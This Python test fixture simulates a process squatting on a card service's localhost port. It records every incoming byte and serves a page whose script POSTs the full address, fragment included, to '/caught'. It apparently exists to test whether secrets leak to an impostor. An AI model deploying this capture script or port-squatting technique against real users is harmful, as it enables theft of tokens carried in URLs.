"""Another program on the port where holders expect the card service. It keeps every byte that comes to it.

Its page has a script, which does what a squatter's script would do: it reads the address, fragment included.
"""

import socket
import threading
from types import TracebackType
from typing import Self

PAGE = (
    b"<!doctype html><meta charset=utf-8><title>Ho\xc5\x9f geldiniz</title><h1>Ho\xc5\x9f geldiniz</h1>"
    b"<script>fetch('/caught', {method: 'POST', body: location.href})</script>"
)
HEAD = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(PAGE)}\r\n\r\n".encode()


class Squatter:
    """Listens at `port` of 127.0.0.1 and answers every request with its page."""

    def __init__(self, port: int) -> None:
        self._listener = socket.create_server(("127.0.0.1", port))
        self._heard = bytearray()
        self._news = threading.Condition()

    def __enter__(self) -> Self:
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    @property
    def heard(self) -> bytes:
        """All that came."""
        with self._news:
            return bytes(self._heard)

    def wait_for(self, part: bytes) -> bytes:
        """All that came, once this is in it. AssertionError after ten seconds."""
        with self._news:
            assert self._news.wait_for(lambda: part in self._heard, 10), self._heard
            return bytes(self._heard)

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(10)
            try:
                while part := connection.recv(65536):
                    with self._news:
                        self._heard += part
                        self._news.notify_all()
                    if self._heard.endswith(b"\r\n\r\n"):
                        connection.sendall(HEAD + PAGE)
            except OSError:
                return
